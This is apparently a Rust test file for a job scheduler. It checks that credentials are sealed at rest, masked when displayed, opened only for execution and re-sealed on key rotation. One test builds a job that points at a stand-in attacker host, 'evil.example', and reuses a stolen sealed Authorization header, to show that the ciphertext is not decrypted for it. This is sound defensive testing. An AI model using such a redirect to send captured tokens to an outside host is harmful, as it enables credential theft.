//! Secrets at rest: sealed before the store sees them, opened for the attempt alone, sealed anew when the key changes.

#![allow(clippy::unwrap_used)] // a test that cannot go on panics

mod services_support;

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use horarium_domain::agent::protocol::RegisterRequest;
use horarium_domain::agent::{AgentTask, TaskState};
use horarium_domain::job::{HttpCall, JobConfiguration, JobType};
use horarium_domain::secret::{Document, MASK, SEALED_PREFIX, SecretError, SecretPlace, SecretSealer, is_sealed};
use horarium_domain::{Entropy, ExecutionId, JobId, NodeId, TenantId};
use horarium_scheduler_engine::service::{
    CallbackInput, JobInput, JobRef, NewAgentJob, Services, Submission, TenantPolicy, TriggerInput, mask_configuration,
};
use horarium_scheduler_engine::{Core, Engine, EngineConfig, Executor, Outcome, Registry, Run};
use serde_json::{Value, json};
use services_support::{World, manual};
use tokio::sync::mpsc::{UnboundedSender, unbounded_channel};
use uuid::Uuid;

/// Writes the key, the place and the secret backwards: enough to see what was sealed with what for which place.
#[derive(Debug, Clone, Copy)]
struct Backwards {
    first: char,
    other: Option<char>,
}

impl Backwards {
    fn tail(place: SecretPlace<'_>, secret: &str) -> String {
        format!("{}_{}_{}_{}", place.tenant, place.owner, place.field, secret).chars().rev().collect()
    }
}

impl SecretSealer for Backwards {
    fn seal(&self, place: SecretPlace<'_>, secret: &str) -> Result<String, SecretError> {
        Ok(format!("{SEALED_PREFIX}{}:{}", self.first, Self::tail(place, secret)))
    }

    fn open(&self, place: SecretPlace<'_>, stored: &str) -> Result<String, SecretError> {
        let Some(rest) = stored.strip_prefix(SEALED_PREFIX) else { return Ok(stored.to_owned()) };
        let (key, tail) = rest.split_once(':').ok_or(SecretError::Refused)?;
        if ![Some(self.first), self.other].into_iter().flatten().any(|known| key == known.to_string()) {
            return Err(SecretError::UnknownKey { key: key.to_owned() });
        }
        let place = Self::tail(place, "");
        let secret = tail.strip_suffix(place.as_str()).ok_or(SecretError::Refused)?;
        Ok(secret.chars().rev().collect())
    }

    fn is_current(&self, stored: &str) -> bool {
        stored.strip_prefix(SEALED_PREFIX).is_some_and(|rest| rest.starts_with(self.first))
    }
}

struct NoChance;

impl Entropy for NoChance {
    fn unit(&self) -> f64 {
        0.5
    }

    fn secret(&self) -> [u8; 32] {
        [7; 32]
    }
}

/// A node over the world's store with these keys.
fn core(world: &World, first: char, other: Option<char>) -> Arc<Core> {
    let keys = Arc::new(Backwards { first, other });
    Core::with_secrets(world.store.clone(), world.clock.clone(), Arc::new(NoChance), keys)
}

fn services(world: &World, first: char, other: Option<char>) -> Services {
    Services::new(&core(world, first, other), TenantPolicy::without_jobs())
}

/// Tells what it is given to run.
#[derive(Debug)]
struct Teller(UnboundedSender<Value>);

#[async_trait]
impl Executor for Teller {
    async fn execute(&self, run: Run) -> Outcome {
        self.0.send(run.job.spec.configuration.to_json()).unwrap();
        Outcome::succeeded()
    }
}

fn secret_call() -> JobInput {
    let call = json!({
        "url": "https://a.example/1",
        "headers": {"Authorization": "Bearer s3cret", "Accept": "*/*"},
        "body": {"pin": 1234}, "bodySecret": true,
    });
    JobInput { job_type: Some("HttpCall".into()), job_configuration: Some(call), ..manual("job") }
}

/// What agents or handlers are to work on.
fn secret_request() -> Value {
    json!({
        "url": "https://me:s3cret@a.example/?page=1&token=s3cret",
        "headers": {"Authorization": "Bearer s3cret", "Accept": "*/*"},
        "env": {"API_KEY": "s3cret"},
        "body": {"pin": "s3cret"}, "body_secret": true,
    })
}

fn submission(job: JobId, payload: Value) -> Submission {
    Submission { job: JobRef::Id(job), input: TriggerInput { payload: Some(payload), ..TriggerInput::default() } }
}

/// A task of an agent, as the executor of agent jobs would have stored it.
fn task(world: &World, tenant: TenantId, execution_id: ExecutionId, data: Value) -> AgentTask {
    let now = world.core.now();
    let id = world.core.ids.agent_task(now);
    let deadline_at = now + Duration::from_mins(1);
    AgentTask { data, deadline_at, ..AgentTask::new(id, tenant, execution_id, "http.request.do", 60, now) }
}

/// An execution of the job, with a secret in its payload, in its callback's URL and in its agent's task.
async fn full_of_secrets(world: &World, services: &Services, sealer: Backwards, job: JobId) -> ExecutionId {
    let callback = CallbackInput { url: Some("https://a.example/?token=s3cret".into()), reference: None };
    let submitted =
        services.executions.submit_called_back(&world.alice(), submission(job, secret_request()), callback).await;
    let id = submitted.unwrap().id;
    let place = SecretPlace { tenant: world.tenant().id, owner: id.as_uuid(), field: "header:x-token" };
    let data = json!({"headers": {"X-Token": sealer.seal(place, "s3cret").unwrap()}});
    world.store.open_tasks(&[task(world, world.tenant().id, id, data)]).await.unwrap();
    id
}

/// Everything that is stored with an execution, as text.
async fn stored_with(world: &World, id: ExecutionId) -> [String; 3] {
    let tenant = world.tenant().id;
    let payload = world.store.execution(tenant, id).await.unwrap().payload;
    let url = world.store.callback(tenant, id).await.unwrap().and_then(|callback| callback.asked.url);
    let tasks = world.store.agent_tasks(tenant, &[id]).await.unwrap();
    [payload.unwrap().to_string(), url.unwrap(), tasks[0].data.to_string()]
}

async fn stored(world: &World, id: JobId) -> HttpCall {
    match world.store.job(world.tenant().id, id).await.unwrap().job.spec.configuration {
        JobConfiguration::HttpCall(call) => call,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn the_store_sees_sealed_secrets_only() {
    let world = World::new().await;
    let services = services(&world, 'n', None);
    let made = services.jobs.create(&world.alice(), &secret_call()).await.unwrap().job;
    let call = stored(&world, made.id).await;
    assert!(is_sealed(&call.headers["Authorization"]) && call.body.unwrap().as_str().is_some_and(is_sealed));
    assert_eq!(call.headers["Accept"], "*/*");
    assert_eq!(mask_configuration(&made.spec.configuration)["headers"]["Authorization"], json!("***"));
}

#[tokio::test]
async fn parameters_are_sealed_by_their_names_and_open_in_an_attempt() {
    let world = World::new().await;
    let core = core(&world, 'n', None);
    let services = Services::new(&core, TenantPolicy::without_jobs());
    let (teller, mut told) = unbounded_channel();
    let registry = Registry::new()
        .with(JobType::CodeExecution, Teller(teller.clone()))
        .with(JobType::StoredProcedure, Teller(teller));
    let _engine = Engine::start(core, registry, EngineConfig::new(NodeId::from_uuid(Uuid::from_u128(7)), "n"));

    let parameters = json!({"day": "s3cret of nobody", "p_token": "s3cret-1", "credentials": {"pin": "s3cret-2"}});
    for (job_type, configuration) in [
        ("CodeExecution", json!({"handlerType": "report", "parameters": parameters})),
        ("StoredProcedure", json!({"storedProcedureName": "report", "parameters": parameters})),
    ] {
        let job = JobInput {
            job_type: Some(job_type.into()),
            job_configuration: Some(configuration.clone()),
            ..manual(job_type)
        };
        let made = services.jobs.create(&world.alice(), &job).await.unwrap().job;
        let stored = world.store.job(world.tenant().id, made.id).await.unwrap().job.spec.configuration.to_json();
        assert!(
            !stored.to_string().contains("s3cret-") && stored["parameters"]["day"] == parameters["day"],
            "{stored}"
        );
        services.executions.trigger(&world.alice(), made.id, TriggerInput::default()).await.unwrap();
        assert_eq!(told.recv().await, Some(configuration));
    }
}

#[tokio::test]
async fn payloads_callbacks_and_operations_are_sealed_too() {
    let world = World::new().await;
    let services = services(&world, 'n', None);
    let job = services.jobs.create(&world.alice(), &manual("job")).await.unwrap().job;
    let id = full_of_secrets(&world, &services, Backwards { first: 'n', other: None }, job.id).await;
    for text in stored_with(&world, id).await {
        assert!(!text.contains("s3cret") && text.contains(SEALED_PREFIX), "{text}");
    }
    let (callback, execution) = services.callbacks.to_deliver(world.tenant().id, id).await.unwrap();
    assert_eq!(callback.asked.url.unwrap(), "https://a.example/?token=s3cret");
    let shown = Document::Payload.masked(execution.payload.unwrap());
    assert_eq!(shown["url"], "https://***@a.example/?page=1&token=***");
    assert_eq!(
        (&shown["headers"]["Accept"], &shown["body"], &shown["env"]["API_KEY"]),
        (&json!("*/*"), &json!("***"), &json!("***"))
    );

    let operation = NewAgentJob { operation: "http.request.do".into(), data: secret_request(), target: None };
    let (id, _) = services.agent_jobs.submit(&world.alice(), operation).await.unwrap();
    let stored = services.agent_jobs.get(world.tenant().id, id).await.unwrap().request.unwrap();
    assert!(!stored.data.to_string().contains("s3cret"), "{stored:?}");
    assert_eq!(Document::AgentData.masked(stored.data), shown);
}

#[tokio::test]
async fn a_mask_is_no_secret_where_nothing_is_stored() {
    let world = World::new().await;
    let services = services(&world, 'n', None);
    let job = services.jobs.create(&world.alice(), &manual("job")).await.unwrap().job;
    let masked = json!({"headers": {"Authorization": MASK}});
    let told = services.executions.submit(&world.alice(), submission(job.id, masked.clone())).await.unwrap_err();
    assert!(told.to_string().starts_with("payload.headers.Authorization: "), "{told}");
    let operation = NewAgentJob { operation: "http.request.do".into(), data: masked, target: None };
    let told = services.agent_jobs.submit(&world.alice(), operation).await.unwrap_err();
    assert!(told.to_string().starts_with("operation.data.headers.Authorization: "), "{told}");
}

#[tokio::test]
async fn an_agent_is_handed_open_secrets_and_no_task_whose_secrets_do_not_open() {
    let world = World::new().await;
    let tenant = world.tenant().id;
    let old = services(&world, 'o', None);
    let job = old.jobs.create(&world.alice(), &manual("job")).await.unwrap().job;
    let register = RegisterRequest {
        hostname: "web1".into(),
        labels: BTreeMap::new(),
        operations: vec!["http.request.do".into()],
        version: "test".into(),
        facts: serde_json::Map::new(),
    };
    let agent = old.agents.register(tenant, register).await.unwrap().id;
    full_of_secrets(&world, &old, Backwards { first: 'o', other: None }, job.id).await;
    let handed = old.agents.lease(tenant, agent, 1, Duration::ZERO).await.unwrap().take();
    assert_eq!(handed[0].data, json!({"headers": {"X-Token": "s3cret"}}));

    let id = full_of_secrets(&world, &old, Backwards { first: 'o', other: None }, job.id).await;
    let new = services(&world, 'n', None);
    assert!(new.agents.lease(tenant, agent, 1, Duration::ZERO).await.unwrap().take().is_empty());
    let task = world.store.agent_tasks(tenant, &[id]).await.unwrap().remove(0);
    assert_eq!((task.state, task.retryable), (TaskState::Failed, true));
    let told = task.error.unwrap();
    assert!(told.starts_with("operation.data.headers.X-Token: ") && told.contains("HORARIUM_SECRET_KEY"), "{told}");
}

#[tokio::test]
async fn what_comes_back_as_it_was_changes_nothing_and_what_is_new_is_sealed_for_its_place() {
    let world = World::new().await;
    let jobs = services(&world, 'n', None).jobs;
    let made = jobs.create(&world.alice(), &secret_call()).await.unwrap().job;
    let before = stored(&world, made.id).await;

    let shown = mask_configuration(&made.spec.configuration);
    let back = JobInput { job_configuration: Some(shown), ..JobInput::default() };
    assert_eq!(jobs.update(&world.alice(), made.id, &back, None).await.unwrap().job.version, 1);
    assert_eq!(jobs.update(&world.alice(), made.id, &secret_call(), None).await.unwrap().job.version, 1);

    // A ciphertext that a caller got hold of is a text like any other: it opens as itself, wherever it is sent.
    let stolen = before.headers["Authorization"].clone();
    let call = json!({"url": "https://evil.example", "headers": {"Authorization": stolen}});
    let theft = JobInput { job_configuration: Some(call), ..JobInput::default() };
    jobs.update(&world.alice(), made.id, &theft, None).await.unwrap();
    let after = stored(&world, made.id).await;
    assert!(after.headers["Authorization"].len() > stolen.len(), "sealed once more");
}

#[tokio::test]
async fn a_secret_that_does_not_open_can_be_sent_again_and_everything_else_still_be_changed() {
    let world = World::new().await;
    let made = services(&world, 'o', None).jobs.create(&world.alice(), &secret_call()).await.unwrap().job;
    let jobs = services(&world, 'n', None).jobs;
    let renamed = JobInput { name: Some("renamed".into()), ..JobInput::default() };
    jobs.update(&world.alice(), made.id, &renamed, None).await.unwrap();

    let shown =
        JobInput { job_configuration: Some(mask_configuration(&made.spec.configuration)), ..JobInput::default() };
    let told = jobs.update(&world.alice(), made.id, &shown, None).await.unwrap_err().to_string();
    assert!(told.contains("'Authorization' again") && told.contains("HORARIUM_SECRET_KEY"), "{told}");
    jobs.update(&world.alice(), made.id, &secret_call(), None).await.unwrap();
    assert!(services(&world, 'n', None).secrets.examine().await.unwrap().missing_keys.is_empty());
}

#[tokio::test]
async fn rotating_seals_everything_anew_and_then_the_old_key_can_go() {
    let world = World::new().await;
    // One from before secrets were sealed, one with the old key, one deleted, one without a secret.
    let unsealed = world.create(JobInput { name: Some("unsealed".into()), ..secret_call() }).await.job;
    let old = services(&world, 'o', None);
    let job = old.jobs.create(&world.alice(), &secret_call()).await.unwrap().job;
    let named = JobInput { name: Some("deleted".into()), ..secret_call() };
    let deleted = old.jobs.create(&world.alice(), &named).await.unwrap().job;
    old.jobs.delete(&world.alice(), deleted.id, None).await.unwrap();
    world.create(manual("plain")).await;

    let only_new = services(&world, 'n', None).secrets;
    let found = only_new.examine().await.unwrap();
    assert_eq!((found.current, found.outdated, found.unopened), (1, 1, 2));
    assert!(found.missing_keys.contains("o"));

    let (sealed, found) = services(&world, 'n', Some('o')).secrets.rotate().await.unwrap();
    assert_eq!((sealed, found.current, found.outdated, found.unopened), (3, 4, 0, 0));
    let found = only_new.examine().await.unwrap();
    assert_eq!((found.current, found.outdated, found.unopened), (4, 0, 0));
    for id in [unsealed.id, job.id, deleted.id] {
        assert!(stored(&world, id).await.headers["Authorization"].starts_with("sealed:v1:n:"));
    }
    let (sealed, _) = only_new.rotate().await.unwrap();
    assert_eq!(sealed, 0);
}

#[tokio::test]
async fn rotating_seals_the_secrets_of_executions_anew() {
    let world = World::new().await;
    let old = services(&world, 'o', None);
    let job = old.jobs.create(&world.alice(), &manual("job")).await.unwrap().job;
    let id = full_of_secrets(&world, &old, Backwards { first: 'o', other: None }, job.id).await;
    let only_new = services(&world, 'n', None).secrets;
    let found = only_new.examine().await.unwrap();
    assert_eq!((found.current, found.unopened), (1, 3), "the job has no secret");
    assert_eq!(only_new.examine_jobs().await.unwrap().unopened, 0);

    let (sealed, found) = services(&world, 'n', Some('o')).secrets.rotate().await.unwrap();
    assert_eq!((sealed, found.current, found.outdated, found.unopened), (3, 4, 0, 0));
    let found = only_new.examine().await.unwrap();
    assert_eq!((found.current, found.outdated, found.unopened), (4, 0, 0));
    for text in stored_with(&world, id).await {
        assert!(text.contains("sealed:v1:n:") && !text.contains("sealed:v1:o:"), "{text}");
    }
    assert_eq!(only_new.rotate().await.unwrap().0, 0);
}
